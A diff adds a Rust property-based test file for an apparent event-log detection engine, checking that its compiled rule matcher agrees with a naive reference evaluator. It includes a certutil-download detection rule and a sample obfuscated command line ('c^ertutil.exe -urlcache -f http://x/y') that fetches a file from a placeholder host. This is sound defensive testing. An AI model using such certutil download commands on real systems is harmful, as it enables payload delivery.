@@ -1,0 +1,332 @@
+//! The compiled matcher (automata, necessary atoms, anchored checks) must judge
+//! every event as a naive evaluator does that walks the ast per rule per event.
+
+use std::sync::Arc;
+
+use landwatch::ast::{
+    CmpOp, EventKind, Expr, Field, FieldForm, Level, Op, Predicate, Quantifier, Rule, Value,
+};
+use landwatch::{normalize, schema, Event, Origin, RulesBuilder, Scanner};
+use proptest::prelude::*;
+
+/// The value a predicate on `field` reads, as the spec defines it.
+fn field_value(event: &[(String, String)], field: &Field) -> Option<String> {
+    let v = event
+        .iter()
+        .find(|(k, _)| k.eq_ignore_ascii_case(&field.name))
+        .map(|(_, v)| v.clone())?;
+    let cmd = schema::is_command_line(&field.name);
+    match (field.form, cmd) {
+        (FieldForm::Default, true) => Some(normalize::command_line(&v).normal),
+        (FieldForm::Decoded, true) => normalize::command_line(&v).decoded,
+        (FieldForm::Decoded, false) => None,
+        _ => Some(v),
+    }
+}
+
+fn number(s: &str) -> Option<f64> {
+    let t = s.trim();
+    match t.strip_prefix("0x").or_else(|| t.strip_prefix("0X")) {
+        Some(h) => u64::from_str_radix(h, 16).ok().map(|v| v as f64),
+        None => t.parse::<f64>().ok().filter(|v| v.is_finite()),
+    }
+}
+
+fn glob(pattern: &[char], text: &[char]) -> bool {
+    // Classic dynamic programming over (pattern, text) prefixes.
+    let mut dp = vec![vec![false; text.len() + 1]; pattern.len() + 1];
+    dp[0][0] = true;
+    for i in 1..=pattern.len() {
+        dp[i][0] = dp[i - 1][0] && pattern[i - 1] == '*';
+        for j in 1..=text.len() {
+            dp[i][j] = match pattern[i - 1] {
+                '*' => dp[i - 1][j] || dp[i][j - 1],
+                '?' => dp[i - 1][j - 1],
+                c => dp[i - 1][j - 1] && c == text[j - 1],
+            };
+        }
+    }
+    dp[pattern.len()][text.len()]
+}
+
+fn reference(rule: &Rule, event: &[(String, String)], kind: Option<EventKind>) -> bool {
+    if rule.on != EventKind::Any && Some(rule.on) != kind {
+        return false;
+    }
+    eval(&rule.when, event)
+}
+
+fn eval(e: &Expr, event: &[(String, String)]) -> bool {
+    match e {
+        Expr::And(xs) => xs.iter().all(|x| eval(x, event)),
+        Expr::Or(xs) => xs.iter().any(|x| eval(x, event)),
+        Expr::Not(x) => !eval(x, event),
+        Expr::Pred(p) => pred(p, event),
+    }
+}
+
+fn pred(p: &Predicate, event: &[(String, String)]) -> bool {
+    let Some(value) = field_value(event, &p.field) else {
+        return false;
+    };
+    let normal = p.field.form == FieldForm::Default && schema::is_command_line(&p.field.name);
+    let cased = p.cased && !normal;
+    let fold = |s: &str| if cased { s.to_string() } else { s.to_ascii_lowercase() };
+    let pat = |s: &str| fold(&if normal { normalize::pattern(s) } else { s.to_string() });
+    let v = fold(&value);
+    let eq_str = |s: &str| v == pat(s);
+    let eq_val = |x: &Value| match x {
+        Value::Str(s) => eq_str(s),
+        Value::Num(n) => number(&value) == Some(*n),
+    };
+    match &p.op {
+        Op::Eq(x) => eq_val(x),
+        Op::Ne(x) => !eq_val(x),
+        Op::In(xs) => xs.iter().any(eq_val),
+        Op::Contains(Quantifier::Any, ps) => ps.iter().any(|s| v.contains(&pat(s))),
+        Op::Contains(Quantifier::All, ps) => ps.iter().all(|s| v.contains(&pat(s))),
+        Op::StartsWith(ps) => ps.iter().any(|s| v.starts_with(&pat(s))),
+        Op::EndsWith(ps) => ps.iter().any(|s| v.ends_with(&pat(s))),
+        Op::Like(g) => {
+            let g: Vec<char> = pat(g).chars().collect();
+            let t: Vec<char> = v.chars().collect();
+            glob(&g, &t)
+        }
+        Op::Matches(re) => {
+            let re = if cased || normal {
+                re.clone()
+            } else {
+                format!("(?i:{re})")
+            };
+            regex::Regex::new(&re).unwrap().is_match(&value)
+        }
+        Op::Exists => true,
+        Op::Cmp(op, n) => number(&value).is_some_and(|x| op.holds(x, *n)),
+    }
+}
+
+// Generators: a small vocabulary so that patterns and values meet often.
+const WORDS: &[&str] = &[
+    "cmd", "/c", "-c", "certutil", "URLCACHE", "http", "\\", "a", "A", "ab", "ba", "^", "\"",
+    " ", "3", "0x3", "é", "→", "net", "user", "/user:", "x.exe", "\\x.exe",
+];
+const FIELDS: &[(&str, FieldForm)] = &[
+    ("Image", FieldForm::Default),
+    ("CommandLine", FieldForm::Default),
+    ("CommandLine", FieldForm::Raw),
+    ("User", FieldForm::Default),
+    ("LogonType", FieldForm::Default),
+];
+
+fn text() -> impl Strategy<Value = String> {
+    prop::collection::vec(prop::sample::select(WORDS), 0..5).prop_map(|w| w.concat())
+}
+
+fn pattern() -> impl Strategy<Value = String> {
+    prop::collection::vec(prop::sample::select(WORDS), 1..3).prop_map(|w| w.concat())
+}
+
+fn predicate() -> impl Strategy<Value = Predicate> {
+    let op = prop_oneof![
+        pattern().prop_map(|s| Op::Eq(Value::Str(s))),
+        pattern().prop_map(|s| Op::Ne(Value::Str(s))),
+        (0u8..5).prop_map(|n| Op::Eq(Value::Num(n as f64))),
+        prop::collection::vec(pattern(), 1..3).prop_map(|p| Op::Contains(Quantifier::Any, p)),
+        prop::collection::vec(pattern(), 1..3).prop_map(|p| Op::Contains(Quantifier::All, p)),
+        prop::collection::vec(pattern(), 1..3).prop_map(Op::StartsWith),
+        prop::collection::vec(pattern(), 1..3).prop_map(Op::EndsWith),
+        prop::collection::vec(
+            prop_oneof![
+                pattern().prop_map(Value::Str),
+                (0u8..5).prop_map(|n| Value::Num(n as f64))
+            ],
+            1..3
+        )
+        .prop_map(Op::In),
+        (pattern(), pattern()).prop_map(|(a, b)| Op::Like(format!("{a}*{b}"))),
+        (pattern(), pattern()).prop_map(|(a, b)| Op::Like(format!("*{a}?{b}"))),
+        prop::sample::select(vec!["c.d", "^cmd", "exe$", "[0-9]+", "user"])
+            .prop_map(|r| Op::Matches(r.to_string())),
+        Just(Op::Exists),
+        (prop::sample::select(vec![CmpOp::Lt, CmpOp::Le, CmpOp::Gt, CmpOp::Ge]), 0u8..5)
+            .prop_map(|(o, n)| Op::Cmp(o, n as f64)),
+    ];
+    (prop::sample::select(FIELDS), op, any::<bool>()).prop_map(|((name, form), op, cased)| {
+        let normal = form == FieldForm::Default && schema::is_command_line(name);
+        let cased = cased && !normal && !matches!(op, Op::Exists | Op::Cmp(..));
+        Predicate {
+            field: Field {
+                name: name.to_string(),
+                form,
+            },
+            op,
+            cased,
+        }
+    })
+}
+
+fn expr() -> impl Strategy<Value = Expr> {
+    predicate().prop_map(Expr::Pred).prop_recursive(3, 12, 3, |inner| {
+        prop_oneof![
+            prop::collection::vec(inner.clone(), 2..4).prop_map(Expr::And),
+            prop::collection::vec(inner.clone(), 2..4).prop_map(Expr::Or),
+            inner.prop_map(|e| Expr::Not(Box::new(e))),
+        ]
+    })
+}
+
+fn rule_set() -> impl Strategy<Value = Vec<Rule>> {
+    prop::collection::vec(
+        (
+            expr(),
+            prop::sample::select(vec![EventKind::Any, EventKind::Process, EventKind::Logon]),
+        ),
+        1..6,
+    )
+    .prop_map(|rs| {
+        rs.into_iter()
+            .enumerate()
+            .map(|(i, (when, on))| Rule {
+                id: format!("r{i}"),
+                title: format!("rule {i}"),
+                level: Level::Medium,
+                tags: vec![],
+                references: vec![],
+                description: None,
+                on,
+                when,
+            })
+            .collect()
+    })
+}
+
+fn event() -> impl Strategy<Value = Vec<(String, String)>> {
+    (
+        prop::option::of(text()),
+        prop::option::of(text()),
+        prop::option::of(text()),
+        prop::option::of(prop_oneof![text(), (0u8..5).prop_map(|n| n.to_string())]),
+        prop::sample::select(vec![None, Some("1"), Some("4624")]),
+    )
+        .prop_map(|(image, cmd, user, logon, id)| {
+            let mut ev = Vec::new();
+            for (k, v) in [
+                ("Image", image),
+                ("CommandLine", cmd),
+                ("User", user),
+                ("LogonType", logon),
+                ("EventID", id.map(String::from)),
+            ] {
+                if let Some(v) = v {
+                    ev.push((k.to_string(), v));
+                }
+            }
+            ev
+        })
+}
+
+fn kind_of(event: &[(String, String)]) -> Option<EventKind> {
+    let get = |k: &str| event.iter().find(|(n, _)| n == k).map(|(_, v)| v.as_str());
+    match get("EventID") {
+        Some("1") => Some(EventKind::Process),
+        Some("4624") => Some(EventKind::Logon),
+        Some(_) => None,
+        None if get("Image").is_some() || get("CommandLine").is_some() => Some(EventKind::Process),
+        None => None,
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]
+
+    #[test]
+    fn compiled_matcher_agrees_with_the_reference(rules in rule_set(), events in prop::collection::vec(event(), 1..8)) {
+        let mut b = RulesBuilder::new();
+        for r in &rules {
+            b = b.add_rule(r.clone(), Origin { file: "gen".into(), line: 1, column: 1 });
+        }
+        let compiled = Arc::new(b.build().expect("generated rules compile"));
+        let mut scanner = Scanner::new(compiled);
+        for ev in &events {
+            let got: Vec<String> = scanner
+                .scan(&Event::from_fields(ev))
+                .unwrap()
+                .into_iter()
+                .map(|d| d.rule)
+                .collect();
+            let kind = kind_of(ev);
+            let want: Vec<String> = rules
+                .iter()
+                .filter(|r| reference(r, ev, kind))
+                .map(|r| r.id.clone())
+                .collect();
+            prop_assert_eq!(&got, &want, "event {:?}", ev);
+        }
+    }
+
+    #[test]
+    fn json_and_field_events_scan_alike(rules in rule_set(), ev in event()) {
+        let mut b = RulesBuilder::new();
+        for r in &rules {
+            b = b.add_rule(r.clone(), Origin { file: "gen".into(), line: 1, column: 1 });
+        }
+        let compiled = Arc::new(b.build().expect("generated rules compile"));
+        let mut scanner = Scanner::new(compiled);
+        let object: serde_json::Map<String, serde_json::Value> =
+            ev.iter().map(|(k, v)| (k.clone(), serde_json::Value::String(v.clone()))).collect();
+        let line = serde_json::to_vec(&object).unwrap();
+        let from_json: Vec<String> = scanner.scan_json(&line).unwrap().into_iter().map(|d| d.rule).collect();
+        let from_fields: Vec<String> = scanner.scan(&Event::from_fields(&ev)).unwrap().into_iter().map(|d| d.rule).collect();
+        prop_assert_eq!(from_json, from_fields);
+    }
+}
+
+#[test]
+fn evidence_names_field_pattern_and_span() {
+    let rule = Rule {
+        id: "t.certutil".into(),
+        title: "certutil download".into(),
+        level: Level::High,
+        tags: vec!["attack.t1105".into()],
+        references: vec![],
+        description: None,
+        on: EventKind::Process,
+        when: Expr::And(vec![
+            Expr::Pred(Predicate {
+                field: Field::new("Image"),
+                op: Op::EndsWith(vec![r"\certutil.exe".into()]),
+                cased: false,
+            }),
+            Expr::Pred(Predicate {
+                field: Field::new("CommandLine"),
+                op: Op::Contains(Quantifier::Any, vec!["/urlcache".into()]),
+                cased: false,
+            }),
+        ]),
+    };
+    let rules = Arc::new(
+        RulesBuilder::new()
+            .add_rule(rule, Origin { file: "t".into(), line: 1, column: 1 })
+            .build()
+            .unwrap(),
+    );
+    let mut s = Scanner::new(rules);
+    let d = s
+        .scan_json(br#"{"EventID":1,"Image":"C:\\Windows\\System32\\CERTUTIL.exe","CommandLine":"c^ertutil.exe  -urlcache -f http://x/y z"}"#)
+        .unwrap();
+    assert_eq!(d.len(), 1);
+    let ev = &d[0].evidence;
+    assert_eq!(ev[0].field, "Image");
+    assert_eq!(ev[0].matched, r"\CERTUTIL.exe");
+    assert_eq!(ev[1].field, "CommandLine");
+    assert_eq!(ev[1].pattern, "/urlcache");
+    assert_eq!(ev[1].matched, "-urlcache");
+    assert_eq!(s.stats().events, 1);
+    // Not a process event: the rule does not look at it.
+    let d = s
+        .scan_json(br#"{"EventID":4624,"Image":"C:\\certutil.exe","CommandLine":"-urlcache"}"#)
+        .unwrap();
+    assert!(d.is_empty());
+    assert!(s.scan_json(b"not json").is_err());
+    assert_eq!(s.stats().rejected, 1);
+}
